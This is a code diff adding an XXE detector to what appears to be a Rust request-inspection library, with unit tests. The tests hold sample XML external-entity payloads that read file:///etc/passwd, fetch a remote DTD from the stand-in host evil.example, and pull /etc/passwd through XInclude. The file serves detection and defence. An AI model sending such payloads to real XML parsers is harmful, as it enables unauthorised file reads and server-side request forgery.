@@ -1,0 +1,85 @@
+//! XML external entities: a document type that declares an entity with a SYSTEM or PUBLIC
+//! identifier (file and network reads, SSRF, billion laughs through parameter entities), and
+//! XInclude. Plain XML bodies and DOCTYPEs without entities stay clean.
+
+use crate::{signal, Detector};
+use palisade_normalize::Value;
+use palisade_types::{Category, Signal};
+
+pub struct Xxe;
+
+fn find_ci(hay: &str, needle: &str) -> Option<usize> {
+    hay.as_bytes()
+        .windows(needle.len())
+        .position(|w| w.eq_ignore_ascii_case(needle.as_bytes()))
+}
+
+impl Xxe {
+    fn check(text: &str) -> Option<f32> {
+        if !text.contains("<!") && !text.contains("include") {
+            return None;
+        }
+        if let Some(at) = find_ci(text, "<!entity") {
+            let decl = &text[at..];
+            let decl = &decl[..decl.find('>').unwrap_or(decl.len())];
+            if find_ci(decl, "system").is_some()
+                || find_ci(decl, "public").is_some()
+                || decl.contains('%')
+            {
+                return Some(0.95);
+            }
+            return Some(0.75);
+        }
+        if find_ci(text, "<xi:include").is_some() && find_ci(text, "href").is_some() {
+            return Some(0.85);
+        }
+        None
+    }
+}
+
+impl Detector for Xxe {
+    fn name(&self) -> &'static str {
+        "xxe"
+    }
+
+    fn inspect(&self, value: &Value, out: &mut Vec<Signal>) {
+        if let Some(c) = Xxe::check(value.text()) {
+            out.push(signal("xxe", Category::Xxe, c, value, value.text()));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::value;
+
+    fn hit(s: &str) -> bool {
+        let mut out = Vec::new();
+        Xxe.inspect(&value(s), &mut out);
+        !out.is_empty()
+    }
+
+    #[test]
+    fn external_entities_are_caught() {
+        for s in [
+            "<!DOCTYPE x[<!ENTITY x SYSTEM \"http://html5sec.org/test.xxe\">]><y>&x;</y>",
+            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
+            "<!DOCTYPE r [<!ENTITY % remote PUBLIC \"x\" \"http://evil.example/x.dtd\"> %remote;]>",
+            "<root xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></root>",
+        ] {
+            assert!(hit(s), "missed: {s}");
+        }
+    }
+
+    #[test]
+    fn plain_xml_stays_clean() {
+        for s in [
+            "<?xml version=\"1.0\"?><order><id>7</id></order>",
+            "<!DOCTYPE html><html><body>hi</body></html>",
+            "the include directive is documented",
+        ] {
+            assert!(!hit(s), "false positive: {s}");
+        }
+    }
+}
